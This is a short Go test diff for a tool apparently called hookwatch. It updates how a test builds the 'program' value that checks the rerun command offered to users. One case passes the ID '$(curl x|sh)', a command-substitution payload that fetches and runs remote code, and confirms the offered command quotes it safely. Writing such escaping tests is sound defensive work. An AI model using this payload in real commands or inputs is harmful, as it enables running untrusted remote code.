@@ -22,11 +22,11 @@ func TestRerunOffersNoMoreThanIsShown(t *testing.T) {
 		"a\xff":    "",
 		"\u3164":   "",
 	} {
-		if got := (&app{dir: dir}).program().About(p, "run")(suites.Key{Suite: "more", ID: "M1"}); got != want {
+		if got := (program{Dir: dir}).About(p, "run")(suites.Key{Suite: "more", ID: "M1"}); got != want {
 			t.Errorf("in %q: %q is offered, want %q", dir, got, want)
 		}
 	}
-	if got := (&app{}).program().About(p, "run")(suites.Key{Suite: "s", ID: "$(curl x|sh)"}); got != "hookwatch run '$(curl x|sh)'" {
+	if got := (program{}).About(p, "run")(suites.Key{Suite: "s", ID: "$(curl x|sh)"}); got != "hookwatch run '$(curl x|sh)'" {
 		t.Errorf("a hostile ID: %q is offered", got)
 	}
 }
